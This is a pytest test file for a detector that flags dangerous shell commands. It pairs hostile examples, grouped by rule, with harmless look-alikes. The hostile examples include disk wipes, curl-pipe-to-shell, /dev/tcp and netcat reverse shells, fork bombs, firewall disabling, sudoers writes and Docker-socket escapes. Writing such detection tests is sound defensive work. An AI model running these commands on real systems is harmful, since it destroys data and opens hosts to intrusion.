"""Dangerous commands by rule, and the ordinary ones beside them."""

import pytest

from wingman_core.instruction.findings import Check
from wingman_core.instruction.report import check

DANGEROUS = {
    "delete-system-path": [
        "rm -r /", "rm -rf /*", "sudo rm -R /etc", "rm --recursive ~", "rm -r $HOME", "rm -r .", "rm -rf *",
        "/bin/rm -r /var/lib/docker/", "find / -delete", "find /var -name x -exec rm {} +",
    ],
    "disk-format": [
        "mkfs.ext4 /dev/sdb1", "mkfs -t ext4 x", "`mkfs.xfs /dev/vdb`",
    ],
    "device-write": [
        "dd if=/dev/zero of=/dev/sda", "cat x > /dev/sda", "echo x >/dev/nvme0n1", "wipefs -a /dev/sdb",
        "shred /dev/vda", "fdisk /dev/sda", "parted /dev/sda print",
    ],
    "world-writable": [
        "chmod 777 /", "chmod -R 0777 x", "chmod a+rwx x", "chmod +w x",
    ],
    "system-permissions": [
        "chown -R app /etc", "chmod -R 755 /usr", "chgrp --recursive x /",
    ],
    "fork-bomb": [
        ":(){ :|:& };:", ":() { : | : & } ; :", "bomb() { bomb | bomb & }; bomb",
    ],
    "pipe-to-shell": [
        "curl x | sh", "curl -s x | sudo -E bash -", "wget -qO- x|bash", "curl x | tee y | python3",
        "echo x | base64 -d | sh", 'sh -c "$(curl x)"', "bash <(curl x)", "eval `wget -O- x`", "source <(curl x)",
    ],
    "sql-drop": [
        "DROP DATABASE shop", "psql -c 'DROP TABLE a'", "drop table if exists a;", "TRUNCATE TABLE a",
        "truncate table a;", "dropdb shop",
    ],
    "sql-delete-all": [
        "DELETE FROM users;", 'psql -c "delete from users"', "DELETE FROM users",
    ],
    "redis-flush": [
        "FLUSHALL", "redis-cli -n 1 flushdb",
    ],
    "account-write": [
        "echo x >> /etc/passwd", "cat x > /etc/sudoers",
    ],
    "kernel-trigger": [
        "echo b > /proc/sysrq-trigger",
    ],
    "reverse-shell": [
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "nc -e /bin/sh 1.2.3.4 9", "ncat -l -e sh ",
    ],
    "host-power": [
        "shutdown now", "shutdown -h +5", "sudo reboot", "`reboot`", "- reboot", "$ poweroff", "systemctl halt",
        "init 0", "telinit 6",
    ],
    "protection-off": [
        "iptables -F", "iptables -P INPUT ACCEPT", "nft flush ruleset", "ufw disable", "setenforce 0",
        "setenforce Permissive", "systemctl stop docker", "service ssh stop", "systemctl mask firewalld",
    ],
    "crontab-removed": [
        "crontab -r",
    ],
    "kill-everything": [
        "kill -9 1", "kill -TERM -1", "kill 1",
    ],
    "git-discard": [
        "git reset --hard", "git -C /srv reset --hard HEAD~1",
    ],
    "git-rewrite": [
        "git filter-branch x", "git push --mirror backup",
    ],
    "cluster-delete": [
        "kubectl delete ns shop", "kubectl delete pods --all", "terraform destroy", "tofu destroy",
    ],
    "docker-prune-all": [
        "docker system prune -a", "docker system prune --volumes", "docker volume prune", "docker image prune --all",
        "podman system prune -af",
    ],
    "docker-volumes": [
        "docker compose down -v", "docker-compose -f a.yml down --volumes",
    ],
    "every-container": [
        "docker rm $(docker ps -aq)", "docker stop `docker ps -q`", "docker ps -q | xargs docker kill",
    ],
    "privileged": [
        "docker run --privileged x", "docker run --privileged=true x", "privileged: true",
        "run it in privileged mode",
    ],
    "host-namespace": [
        "docker run --pid=host x", "docker run --ipc host x", "userns_mode: host", "pid: host", "nsenter -t 1 -m sh",
    ],
    "unconfined": [
        "docker run --security-opt seccomp=unconfined x", "- apparmor:unconfined",
    ],
    "docker-socket": [
        "docker run -v /var/run/docker.sock:/s x", "- /var/run/docker.sock:/var/run/docker.sock:ro",
        "--mount type=bind,source=/run/docker.sock,target=/s", "-v=/var/run/docker.sock:/s",
        "source: /var/run/docker.sock", "mount the docker socket into it", "Mounting the Docker sock",
    ],
    "host-mount": [
        "docker run -v /:/host x", "--volume=/etc:/etc", "- /:/rootfs:ro", "--mount type=bind,src=/,dst=/h",
        "-v /var/lib/docker:/d",
    ],
    "capability": [
        "docker run --cap-add SYS_ADMIN x", "--cap-add=ALL", "--cap-add=CAP_SYS_PTRACE", "cap_add: [SYS_MODULE]",
        "cap_add:\n  - NET_RAW\n  - SYS_ADMIN", "cap_add:\n- ALL\n",
    ],
}  # fmt: skip
ORDINARY = [
    "docker restart web",
    "docker compose down",
    "docker container prune",
    "docker system prune",
    "docker image prune --filter until=24h",
    "docker stop $(docker ps -q --filter name=web)",
    "docker stop web; docker ps -q",
    "docker ps -aq | wc -l",
    "docker run -v data:/var/lib/data x",
    "docker run -v /srv/a:/a x",
    "- /etc/localtime:/etc/localtime:ro",
    "docker run --privileged=false x",
    "docker run --pid=container:web x",
    "docker run --cap-drop ALL x",
    "docker run --cap-add NET_BIND_SERVICE x",
    "cap_drop:\n  - ALL\n",
    "- ALL\n",
    "all tests pass",
    "docker run --network host x",
    "privileged users may log in; unprivileged ones may not",
    "ls -l /var/run/docker.sock",
    "the docker socket belongs to Wingman",
    "rm -r build",
    "rm /etc/hosts.bak",
    "rm -rf ./build /tmp/x",
    "find . -delete",
    "find /tmp/x -delete",
    "find / -name x",
    "find",
    "chmod 755 x",
    "chmod u+x x",
    "chmod",
    "chown app x",
    "chown -R app ./data",
    "dd if=/dev/sda of=x.img",
    "cat x > /dev/null",
    "mkfs is a command",
    "mkfs formats disks",
    "init 3",
    "kubectl get ns",
    "lsblk /dev/sda",
    "curl x",
    "curl x > y",
    "curl x | jq .",
    "curl x; sh y",
    "sh -c 'curl x'",
    "echo $(curl x)",
    "base64 -d x",
    "drop table a",
    "we drop database connections",
    "DELETE FROM a WHERE b;",
    "a graceful shutdown of web",
    "the shutdown at night",
    "Reboot the host",
    "no reboot, please",
    "the daemon will halt",
    "iptables -L",
    "ufw status",
    "setenforce 1",
    "systemctl status docker",
    "systemctl stop web",
    "service docker status",
    "crontab -l",
    "kill 1234",
    "kill -HUP 10",
    "kill -1 1234",
    "git reset HEAD~1",
    "git push origin main",
    "git",
    "kubectl delete pod a",
    "terraform plan",
    "dropdb",
    "nc -z host 80",
    "init the database",
    "echo {}(){}",
    "get() { return 1; }",
]  # fmt: skip
CASES = [(text, rule) for rule, texts in DANGEROUS.items() for text in texts]


def rules(text: str) -> set[str]:
    return {finding.rule for finding in check(text).findings if finding.check is Check.NO_DANGEROUS_COMMANDS}


@pytest.mark.parametrize(("text", "rule"), CASES)
def test_what_is_dangerous(text: str, rule: str):
    assert rule in rules(text)


@pytest.mark.parametrize("text", ORDINARY)
def test_what_is_not(text: str):
    assert rules(text) == set()


def test_a_key_that_is_far_above_its_list_is_not_looked_for():
    items = "\n".join("  - NET_RAW" for _ in range(20))
    assert rules(f"cap_add:\n{items}\n  - SYS_ADMIN\n") == set()
